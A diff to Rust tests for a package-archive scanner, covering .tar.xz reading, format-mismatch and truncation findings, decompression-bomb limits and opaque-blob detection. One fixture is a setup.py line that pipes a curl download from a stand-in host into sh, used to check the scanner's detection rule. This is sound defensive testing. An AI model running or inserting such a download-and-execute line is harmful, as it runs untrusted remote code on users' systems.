@@ -209,17 +209,15 @@ fn corrupt_and_unknown_archives_give_a_finding_not_a_panic() {
         &Limits::default(),
     );
     assert!(!scan.findings.is_empty());
-    // xz is not read: one row says so.
+    // A cut xz stream is read as far as it goes and says it ended early.
     let scan = scan_archive(
         RuleSet::builtin(),
         "pkg-1.0.tar.xz",
         b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46",
         &Limits::default(),
     );
-    assert_eq!(
-        ids(&scan),
-        vec![(String::new(), "archive-unreadable".to_string())]
-    );
+    assert_eq!(scan.findings.len(), 1, "{:?}", ids(&scan));
+    assert!(scan.findings[0].finding.rule_id.starts_with("archive-"));
     let scan = scan_archive(
         RuleSet::builtin(),
         "x.zip",
@@ -362,7 +360,7 @@ fn tar_bz2_bomb_and_corruption_hit_the_same_limits() {
         &Limits::default(),
     );
     assert!(
-        ids(&scan).iter().any(|(_, id)| id == "archive-limit"),
+        ids(&scan).iter().any(|(_, id)| id == "archive-truncated"),
         "{:?}",
         ids(&scan)
     );
@@ -373,4 +371,165 @@ fn tar_bz2_bomb_and_corruption_hit_the_same_limits() {
         &Limits::default(),
     );
     assert!(!scan.findings.is_empty());
+}
+
+/// A `.tar.xz` built like [`tarbz2`].
+fn tarxz(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let raw = targz(files);
+    let mut tar = Vec::new();
+    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&raw[..]), &mut tar).unwrap();
+    let mut xz =
+        lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(6)).unwrap();
+    xz.write_all(&tar).unwrap();
+    xz.finish().unwrap()
+}
+
+fn rule_ids(scan: &squatch::findings::archive::ArchiveScan) -> Vec<String> {
+    scan.findings
+        .iter()
+        .map(|f| f.finding.rule_id.clone())
+        .collect()
+}
+
+#[test]
+fn xz_tar_named_tar_gz_is_read_by_its_magic_bytes() {
+    let setup: &[u8] = b"import os\nos.system(\"curl -s https://payload.invalid/x.sh | sh\")\n";
+    let xz = tarxz(&[("evil-1.0/setup.py", setup)]);
+    let scan = scan_archive(
+        RuleSet::builtin(),
+        "evil-1.0.tar.gz",
+        &xz,
+        &Limits::default(),
+    );
+    let got = rule_ids(&scan);
+    assert!(got.contains(&"dl-shell-pipe".to_string()), "{got:?}");
+    assert!(
+        got.contains(&"archive-format-mismatch".to_string()),
+        "{got:?}"
+    );
+    // Named for what it is: read, and no mismatch.
+    let scan = scan_archive(
+        RuleSet::builtin(),
+        "evil-1.0.tar.xz",
+        &xz,
+        &Limits::default(),
+    );
+    let got = rule_ids(&scan);
+    assert!(
+        got.contains(&"dl-shell-pipe".to_string())
+            && !got.contains(&"archive-format-mismatch".to_string()),
+        "{got:?}"
+    );
+}
+
+#[test]
+fn xz_bombs_hit_the_same_limits() {
+    let big = vec![b'a'; 8 * 1024 * 1024];
+    let xz = tarxz(&[("bomb-1.0/data.txt", &big)]);
+    let limits = Limits {
+        max_total_bytes: 1024 * 1024,
+        ..Limits::default()
+    };
+    let scan = scan_archive(RuleSet::builtin(), "bomb-1.0.tar.xz", &xz, &limits);
+    assert!(
+        rule_ids(&scan).contains(&"archive-limit".to_string()),
+        "{:?}",
+        rule_ids(&scan)
+    );
+}
+
+#[test]
+fn empty_and_truncated_archives_are_reported_as_such() {
+    let scan = scan_archive(RuleSet::builtin(), "x-1.0.tar.gz", b"", &Limits::default());
+    assert_eq!(rule_ids(&scan), vec!["archive-empty"]);
+    let mut body = Vec::new();
+    for i in 0..2000 {
+        body.extend_from_slice(format!("value_{i} = {}\n", i * 7919 % 104729).as_bytes());
+    }
+    let full = targz(&[("x-1.0/setup.py", b"x = 1\n"), ("x-1.0/pkg/mod.py", &body)]);
+    let cut = &full[..full.len() / 2];
+    let scan = scan_archive(RuleSet::builtin(), "x-1.0.tar.gz", cut, &Limits::default());
+    assert!(
+        rule_ids(&scan).contains(&"archive-truncated".to_string()),
+        "{:?}",
+        scan.findings
+            .iter()
+            .map(|f| f.finding.evidence.clone())
+            .collect::<Vec<_>>()
+    );
+}
+
+/// Deterministic bytes with the entropy of encrypted data.
+fn noise(len: usize) -> Vec<u8> {
+    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
+    (0..len)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            (x >> 24) as u8
+        })
+        .collect()
+}
+
+#[test]
+fn an_unnamed_opaque_blob_in_a_pure_python_package_is_found() {
+    let blob = noise(300 * 1024);
+    let init: &[u8] = b"def hello():\n    return 1\n";
+    let sdist = targz(&[
+        ("p-1.0/setup.py", b"from setuptools import setup\nsetup()\n"),
+        ("p-1.0/p/__init__.py", init),
+        ("p-1.0/p/cache.dat", &blob),
+    ]);
+    let scan = scan_archive(
+        RuleSet::builtin(),
+        "p-1.0.tar.gz",
+        &sdist,
+        &Limits::default(),
+    );
+    assert!(
+        rule_ids(&scan).contains(&"archive-opaque-blob".to_string()),
+        "{:?}",
+        rule_ids(&scan)
+    );
+    // Named by the code (it loads it), in docs, or in a native package: not.
+    let named: &[u8] =
+        b"import os\nDATA = os.path.join(os.path.dirname(__file__), \"cache.dat\")\n";
+    for files in [
+        vec![
+            ("p-1.0/p/__init__.py", named),
+            ("p-1.0/p/cache.dat", &blob[..]),
+        ],
+        vec![
+            ("p-1.0/p/__init__.py", init),
+            ("p-1.0/docs/_static/card.afdesign", &blob[..]),
+        ],
+        vec![
+            ("p-1.0/p/__init__.py", init),
+            ("p-1.0/src/fast.c", b"int x;\n"),
+            ("p-1.0/p/cache.dat", &blob[..]),
+        ],
+    ] {
+        let scan = scan_archive(
+            RuleSet::builtin(),
+            "p-1.0.tar.gz",
+            &targz(&files),
+            &Limits::default(),
+        );
+        assert!(
+            !rule_ids(&scan).contains(&"archive-opaque-blob".to_string()),
+            "{:?}",
+            rule_ids(&scan)
+        );
+    }
+    // An image is a known format, not opaque.
+    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
+    png.extend(noise(300 * 1024));
+    let scan = scan_archive(
+        RuleSet::builtin(),
+        "p-1.0.tar.gz",
+        &targz(&[("p-1.0/p/__init__.py", init), ("p-1.0/p/logo.png", &png)]),
+        &Limits::default(),
+    );
+    assert!(!rule_ids(&scan).contains(&"archive-opaque-blob".to_string()));
 }
